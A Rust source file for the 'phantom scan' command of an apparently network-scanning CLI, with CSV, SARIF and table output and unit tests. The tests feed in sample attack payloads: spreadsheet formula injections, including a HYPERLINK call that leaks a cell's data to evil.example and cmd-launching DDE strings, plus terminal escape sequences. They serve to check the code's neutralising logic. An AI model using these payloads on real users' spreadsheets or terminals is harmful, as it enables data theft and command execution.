//! `phantom scan`.

use std::{process::ExitCode, time::Duration};

use super::remote::RemoteChannel;
use comfy_table::{Table, presets::UTF8_FULL_CONDENSED};
use indicatif::{ProgressBar, ProgressStyle};
use phantom_proto::pb::{self, scan_orchestrator_client::ScanOrchestratorClient};
use serde_json::{Value, json};
use tokio_stream::StreamExt;

use super::Output;
use super::{connect, exit_for, print_status, rfc3339, terminal::inert};

/// What to scan.
#[derive(Debug)]
pub struct Args {
    /// scan-orchestrator URL.
    pub addr: String,
    /// Targets.
    pub targets: Vec<String>,
    /// Port specification ("" for the server's default).
    pub ports: String,
    /// Engine.
    pub scanner: String,
    /// Idempotency key ("" for none).
    pub idempotency_key: String,
    /// Follow the scan to its end.
    pub wait: bool,
    /// Output format.
    pub output: Output,
    /// The credential and transport.
    pub credentials: super::remote::Credentials,
}

fn state_name(state: i32) -> &'static str {
    pb::ScanState::try_from(state)
        .map(|s| s.as_str_name().trim_start_matches("SCAN_STATE_"))
        .unwrap_or("UNKNOWN")
}

fn severity_name(severity: i32) -> &'static str {
    pb::Severity::try_from(severity)
        .map(|s| s.as_str_name().trim_start_matches("SEVERITY_"))
        .unwrap_or("UNKNOWN")
}

/// Submits a scan, follows it, prints its findings.
pub async fn run(args: Args) -> ExitCode {
    let channel = match connect(&args.addr, &args.credentials).await {
        Ok(c) => c,
        Err(code) => return code,
    };
    let mut client = ScanOrchestratorClient::new(channel);
    let request = pb::CreateScanRequest {
        targets: args.targets.clone(),
        ports: args.ports.clone(),
        scanner: args.scanner.clone(),
        idempotency_key: args.idempotency_key.clone(),
    };
    let mut scan = match client.create_scan(request).await {
        Ok(r) => r.into_inner(),
        Err(status) => {
            print_status("CreateScan", &status);
            return exit_for(&status);
        }
    };
    if args.wait {
        match follow(&mut client, &scan, args.output).await {
            Ok(done) => scan = done,
            Err(status) => {
                print_status("WatchScan", &status);
                return exit_for(&status);
            }
        }
    }
    let findings = match all_findings(&mut client, &scan.id).await {
        Ok(f) => f,
        Err(status) => {
            print_status("ListFindings", &status);
            return exit_for(&status);
        }
    };
    match args.output {
        Output::Json => super::outln!(
            "{}",
            serde_json::to_string_pretty(&json!({
                "scan": scan_json(&scan),
                "findings": findings.iter().map(finding_json).collect::<Vec<_>>(),
            }))
            .expect("json")
        ),
        Output::Table => super::outln!("{}", table(&scan, &findings)),
        Output::Csv => super::outln!("{}", csv(&findings).trim_end()),
        Output::Sarif => super::outln!(
            "{}",
            serde_json::to_string_pretty(&sarif(&scan, &findings)).expect("json")
        ),
    }
    match pb::ScanState::try_from(scan.state) {
        Ok(pb::ScanState::Failed) => ExitCode::FAILURE,
        _ => ExitCode::SUCCESS,
    }
}

/// Follows the scan's events with a progress bar until it reaches a final state.
async fn follow(
    client: &mut ScanOrchestratorClient<RemoteChannel>,
    scan: &pb::Scan,
    output: Output,
) -> Result<pb::Scan, tonic::Status> {
    let bar = if output == Output::Table {
        ProgressBar::new(100)
    } else {
        ProgressBar::hidden()
    };
    bar.set_style(
        ProgressStyle::with_template("{spinner} [{elapsed_precise}] [{bar:40}] {pos:>3}% {msg}")
            .expect("valid template")
            .progress_chars("=> "),
    );
    bar.enable_steady_tick(Duration::from_millis(120));
    let mut last = scan.clone();
    let mut stream = client
        .watch_scan(pb::WatchScanRequest {
            id: scan.id.clone(),
        })
        .await?
        .into_inner();
    while let Some(event) = stream.next().await {
        let event = event?;
        let Some(s) = event.scan else { continue };
        bar.set_position(u64::from(s.progress_percent));
        bar.set_message(format!(
            "{} · {} findings · {}",
            state_name(s.state),
            s.findings_count,
            inert(&event.message)
        ));
        let done = !matches!(
            pb::ScanState::try_from(s.state),
            Ok(pb::ScanState::Pending | pb::ScanState::Running)
        );
        last = s;
        if done {
            break;
        }
    }
    bar.finish_and_clear();
    Ok(last)
}

pub(crate) async fn all_findings(
    client: &mut ScanOrchestratorClient<RemoteChannel>,
    scan_id: &str,
) -> Result<Vec<pb::Finding>, tonic::Status> {
    let mut out = Vec::new();
    let mut token = String::new();
    loop {
        let page = client
            .list_findings(pb::ListFindingsRequest {
                scan_id: scan_id.to_owned(),
                page_size: 1000,
                page_token: token,
                ..Default::default()
            })
            .await?
            .into_inner();
        out.extend(page.findings);
        if page.next_page_token.is_empty() {
            return Ok(out);
        }
        token = page.next_page_token;
    }
}

/// The scan and its findings as a table.
fn table(scan: &pb::Scan, findings: &[pb::Finding]) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "Scan {}: {} · {}% · {} findings · targets {} · ports {}\n",
        inert(&scan.id),
        state_name(scan.state),
        scan.progress_percent,
        scan.findings_count,
        inert(&scan.targets.join(" ")),
        inert(&scan.ports)
    ));
    if !scan.error.is_empty() {
        out.push_str(&format!("Error: {}\n", inert(&scan.error)));
    }
    if findings.is_empty() {
        out.push_str("No findings.");
        return out;
    }
    let mut table = Table::new();
    table.load_preset(UTF8_FULL_CONDENSED);
    table.set_header([
        "TARGET", "PORT", "SERVICE", "SEVERITY", "SCORE", "CONF", "FINDING", "BANNER",
    ]);
    for f in findings {
        let (score, confidence) = f
            .analysis
            .as_ref()
            .map_or((f.cvss_score, String::new()), |a| {
                (a.score, a.confidence.to_string())
            });
        let banner: String = f
            .banner
            .lines()
            .next()
            .unwrap_or_default()
            .chars()
            .take(40)
            .collect();
        let cells = [
            if f.hostname.is_empty() {
                f.target.clone()
            } else {
                format!("{} ({})", f.hostname, f.target)
            },
            format!("{}/{}", f.port, f.protocol),
            f.service.clone(),
            severity_name(f.severity).to_owned(),
            format!("{score:.1}"),
            confidence,
            f.analysis
                .as_ref()
                .map_or_else(|| f.title.clone(), |a| a.summary.clone()),
            banner,
        ];
        // Banners and titles are what scanned services said: shown, never acted on.
        table.add_row(cells.map(|c| inert(&c).into_owned()));
    }
    out.push_str(&table.to_string());
    out
}

fn scan_json(s: &pb::Scan) -> Value {
    json!({
        "id": s.id,
        "state": state_name(s.state),
        "targets": s.targets,
        "ports": s.ports,
        "scanner": s.scanner,
        "progress_percent": s.progress_percent,
        "findings_count": s.findings_count,
        "probes_total": s.probes_total,
        "probes_done": s.probes_done,
        "created_at": rfc3339(s.created_at.as_ref()),
        "started_at": rfc3339(s.started_at.as_ref()),
        "finished_at": rfc3339(s.finished_at.as_ref()),
        "error": s.error,
        "idempotency_key": s.idempotency_key,
    })
}

fn finding_json(f: &pb::Finding) -> Value {
    json!({
        "id": f.id,
        "target": f.target,
        "hostname": f.hostname,
        "port": f.port,
        "protocol": f.protocol,
        "service": f.service,
        "banner": f.banner,
        "engine": f.engine,
        "check_id": f.check_id,
        "title": f.title,
        "severity": severity_name(f.severity),
        "cvss_score": f.cvss_score,
        "fingerprint": f.fingerprint,
        "analysis": f.analysis.as_ref().map(|a| json!({
            "score": a.score,
            "severity": severity_name(a.severity),
            "analyzer": a.analyzer,
            "confidence": a.confidence,
            "summary": a.summary,
            "remediation": a.remediation,
            "degraded": a.degraded,
        })),
    })
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV field: neutralised (a cell a spreadsheet would run as a formula gets a leading
/// `'`, which makes it text: a banner `=HYPERLINK(...)` stays a banner), its control
/// characters escaped (one record per line, nothing for a terminal to act on), then quoted
/// when it has to be (RFC 4180).
fn field(v: &str) -> String {
    let v = if v.starts_with(FORMULA_STARTS) {
        format!("'{v}")
    } else {
        v.to_owned()
    };
    let v = inert(&v);
    if v.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.into_owned()
    }
}

/// The findings as CSV, with a header row.
pub fn csv(findings: &[pb::Finding]) -> String {
    let mut out = String::from(
        "id,target,hostname,port,protocol,service,severity,score,analyzer,engine,check_id,title,cve_ids,fingerprint,banner\n",
    );
    for f in findings {
        let (score, analyzer) = f
            .analysis
            .as_ref()
            .map_or((f.cvss_score, ""), |a| (a.score, a.analyzer.as_str()));
        let row = [
            f.id.clone(),
            f.target.clone(),
            f.hostname.clone(),
            f.port.to_string(),
            f.protocol.clone(),
            f.service.clone(),
            severity_name(f.severity).to_owned(),
            format!("{score:.1}"),
            analyzer.to_owned(),
            f.engine.clone(),
            f.check_id.clone(),
            f.title.clone(),
            f.cve_ids.join(" "),
            f.fingerprint.clone(),
            f.banner.clone(),
        ];
        out.push_str(&row.iter().map(|v| field(v)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

/// The scan as a SARIF 2.1.0 log: one rule per check, one result per finding, the finding's
/// fingerprint as its partial fingerprint (so dashboards track it across scans).
pub fn sarif(scan: &pb::Scan, findings: &[pb::Finding]) -> Value {
    let mut rules: Vec<Value> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    let score = |f: &pb::Finding| f.analysis.as_ref().map_or(f.cvss_score, |a| a.score);
    for f in findings {
        if seen.insert(f.check_id.clone()) {
            rules.push(json!({
                "id": f.check_id,
                "name": f.check_id,
                "shortDescription": {"text": f.title},
                "properties": {"security-severity": format!("{:.1}", score(f)), "tags": ["security", f.engine.as_str()]},
            }));
        }
    }
    let results: Vec<Value> = findings
        .iter()
        .map(|f| {
            let level = match pb::Severity::try_from(f.severity).unwrap_or(pb::Severity::Unspecified) {
                pb::Severity::Critical | pb::Severity::High => "error",
                pb::Severity::Medium => "warning",
                _ => "note",
            };
            let host = if f.target.contains(':') { format!("[{}]", f.target) } else { f.target.clone() };
            let text = f.analysis.as_ref().map_or_else(|| f.title.clone(), |a| format!("{} {}", f.title, a.summary));
            json!({
                "ruleId": f.check_id,
                "level": level,
                "message": {"text": text},
                "locations": [{"physicalLocation": {"artifactLocation": {"uri": format!("{}://{host}:{}", if f.protocol.is_empty() { "tcp" } else { &f.protocol }, f.port)}}}],
                "partialFingerprints": {"phantomFingerprint/v1": f.fingerprint},
                "properties": {
                    "severity": severity_name(f.severity),
                    "score": score(f),
                    "cve": f.cve_ids,
                    "engine": f.engine,
                    "service": f.service,
                    "banner": f.banner,
                },
            })
        })
        .collect();
    json!({
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
        "version": "2.1.0",
        "runs": [{
            "tool": {"driver": {
                "name": "phantom",
                "version": env!("CARGO_PKG_VERSION"),
                "informationUri": "https://github.com/phantom-sec/phantom",
                "rules": rules,
            }},
            "automationDetails": {"id": format!("phantom/scan/{}", scan.id)},
            "results": results,
        }]
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding() -> pb::Finding {
        pb::Finding {
            id: "f1".into(),
            target: "10.0.0.5".into(),
            port: 22,
            protocol: "tcp".into(),
            service: "ssh".into(),
            engine: "builtin".into(),
            check_id: "open-port".into(),
            title: "Port 22/tcp open, \"ssh\"".into(),
            severity: pb::Severity::High as i32,
            fingerprint: "abc".into(),
            banner: "SSH-2.0-OpenSSH_9.2\nx".into(),
            ..Default::default()
        }
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let out = csv(&[finding()]);
        let row = out.lines().nth(1).unwrap();
        assert!(row.contains("\"Port 22/tcp open, \"\"ssh\"\"\""), "{row}");
        assert_eq!(out.lines().next().unwrap().split(',').count(), 15);
    }

    /// The records of `text` (RFC 4180: quoted fields may hold commas, quotes, line breaks).
    fn records(text: &str) -> Vec<Vec<String>> {
        let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
        let (mut quoted, mut chars) = (false, text.chars().peekable());
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => quoted = true,
                (false, ',') => record.push(std::mem::take(&mut field)),
                (false, '\n') => {
                    record.push(std::mem::take(&mut field));
                    records.push(std::mem::take(&mut record));
                }
                (false, c) => field.push(c),
            }
        }
        if !field.is_empty() || !record.is_empty() {
            record.push(field);
            records.push(record);
        }
        records
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        for banner in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let out = csv(&[pb::Finding {
                banner: banner.into(),
                ..finding()
            }]);
            let rows = records(&out);
            assert_eq!(rows.len(), 2, "{out:?}");
            let cell = &rows[1][14];
            assert!(cell.starts_with('\''), "{banner:?} became {cell:?}");
        }
        let rows = records(&csv(&[finding()]));
        assert_eq!(rows[1][5], "ssh", "ordinary cells are left alone");
        assert_eq!(rows[1][11], "Port 22/tcp open, \"ssh\"");
    }

    #[test]
    fn scan_tables_and_csv_are_inert_on_a_terminal() {
        let hostile = pb::Finding {
            hostname: "h\u{9b}31m".into(),
            title: "\u{202e}txt.exe".into(),
            banner: "\u{1b}]0;owned\u{7}\u{1b}[2J SSH-2.0".into(),
            ..finding()
        };
        let scan = pb::Scan {
            id: "s1".into(),
            error: "engine said \u{1b}[31mno".into(),
            ..Default::default()
        };
        for text in [
            table(&scan, std::slice::from_ref(&hostile)),
            csv(std::slice::from_ref(&hostile)),
        ] {
            assert_eq!(
                crate::commands::terminal_hazards(&text),
                Vec::<char>::new(),
                "{text}"
            );
        }
    }

    #[test]
    fn sarif_has_the_2_1_0_shape() {
        let log = sarif(
            &pb::Scan {
                id: "s1".into(),
                ..Default::default()
            },
            &[finding(), finding()],
        );
        assert_eq!(log["version"], "2.1.0");
        let run = &log["runs"][0];
        assert_eq!(
            run["tool"]["driver"]["rules"].as_array().unwrap().len(),
            1,
            "one rule per check"
        );
        let r = &run["results"][0];
        assert_eq!(r["level"], "error");
        assert_eq!(
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "tcp://10.0.0.5:22"
        );
        assert_eq!(r["partialFingerprints"]["phantomFingerprint/v1"], "abc");
    }
}
